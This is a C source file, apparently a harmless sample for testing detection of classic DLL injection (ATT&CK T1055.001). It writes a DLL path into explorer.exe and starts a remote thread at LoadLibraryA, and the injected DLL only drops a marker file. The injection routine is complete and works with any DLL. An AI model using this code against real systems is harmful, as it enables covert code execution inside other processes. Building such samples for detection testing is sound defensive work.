/* dll_injection_loadlibrary — classic DLL injection (ATT&CK T1055.001): write the path of a DLL
 * into explorer.exe (VirtualAllocEx + WriteProcessMemory) and start a remote thread at
 * LoadLibraryA with that path as its argument, so the target loads the DLL itself. Used by
 * RATs, game cheats and credential stealers.
 *
 * Harmless: the DLL is dll_injection_payload.<arch>.dll from the same folder as this program
 * (payload.c); it writes %TEMP%\mamori-sample\dll_injection.txt and unloads itself at once. */
#include "inject.h"

#ifdef _WIN64
#define PAYLOAD_DLL "dll_injection_payload.x64.dll"
#else
#define PAYLOAD_DLL "dll_injection_payload.x86.dll"
#endif

int main(void) {
  /* the DLL's full path: our own folder + PAYLOAD_DLL */
  char dll[MAX_PATH];
  DWORD n = GetModuleFileNameA(NULL, dll, sizeof dll);
  while (n > 0 && dll[n - 1] != '\\') --n;
  if (n + sizeof PAYLOAD_DLL > sizeof dll) return 1;
  lstrcpyA(dll + n, PAYLOAD_DLL);

  DWORD pid = inject_find_process("explorer.exe");
  if (!pid) {
    sample_log("dll_injection_loadlibrary: explorer.exe not found");
    return 2;
  }
  HANDLE process = OpenProcess(PROCESS_CREATE_THREAD | PROCESS_QUERY_INFORMATION |
                                   PROCESS_VM_OPERATION | PROCESS_VM_WRITE | PROCESS_VM_READ,
                               FALSE, pid);
  if (!process) return 3;

  SIZE_T size = (SIZE_T)lstrlenA(dll) + 1;
  void *remote_path = VirtualAllocEx(process, NULL, size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
  FARPROC load_library = GetProcAddress(GetModuleHandleA("kernel32.dll"), "LoadLibraryA");
  HANDLE thread = NULL;
  if (remote_path && load_library && WriteProcessMemory(process, remote_path, dll, size, NULL)) {
    thread = CreateRemoteThread(process, NULL, 0, (LPTHREAD_START_ROUTINE)load_library,
                                remote_path, 0, NULL);
  }
  if (thread) {
    WaitForSingleObject(thread, 10000);
    CloseHandle(thread);
  }
  CloseHandle(process);
  return thread ? 0 : 4;
}
